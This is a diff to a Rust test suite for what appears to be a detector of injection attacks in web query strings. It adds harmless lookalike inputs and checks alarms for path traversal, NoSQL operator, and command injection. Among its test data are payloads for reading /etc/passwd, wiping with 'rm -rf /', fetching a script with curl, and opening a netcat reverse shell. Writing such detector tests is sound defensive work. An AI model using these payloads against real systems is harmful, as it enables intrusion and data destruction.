@@ -258,7 +258,15 @@ fn words_and_units_that_look_like_code_stay_quiet() {
         "q=%3C%25%3D+title+%25%3E",
         "query=up%7Bpath%3D%22/etc/hosts%22%7D",
         "q=select+*+from+prices",
+        "q=../../contributing",
+        "s=..%2F..%2Fimg%2Flogo",
+        "q=curl+https://www.example.org/",
+        "wd=wget+http%3A//example.org",
+        "q=why+use+<script>&page=2",
+        "ask={\"filter\":{\"$gt\":7}}",
     ]);
+    alarms(Kind::Nosql, &["ask={\"filter\":{\"$gt\":0}}", "name={\"$gt\":7}"]);
+    alarms(Kind::Traversal, &["q=../../../contributing", "q=../../etc/passwd", "doc=../../a"]);
     alarms(
         Kind::Sqli,
         &[
@@ -275,7 +283,18 @@ fn words_and_units_that_look_like_code_stay_quiet() {
             "q=select+*+from+prices+union+select+1,2",
         ],
     );
-    alarms(Kind::Command, &["q=rm+-rf+/", "q=;busybox+nc+192.0.2.1+9+-e+sh", "q=$(%3Ca.txt)"]);
+    alarms(
+        Kind::Command,
+        &[
+            "q=rm+-rf+/",
+            "q=;busybox+nc+192.0.2.1+9+-e+sh",
+            "q=$(%3Ca.txt)",
+            "q=curl+http://example.org/a.sh",
+            "q=curl+http://192.0.2.1",
+            "cmd=curl+http://example.org/",
+            "q=;curl+http://example.org/",
+        ],
+    );
     alarms(Kind::Ldap, &["q=(|(cn%3D*)(userPassword%3Da*))", "uid=*)(|%26'", "q=*()|%26'"]);
 }
 
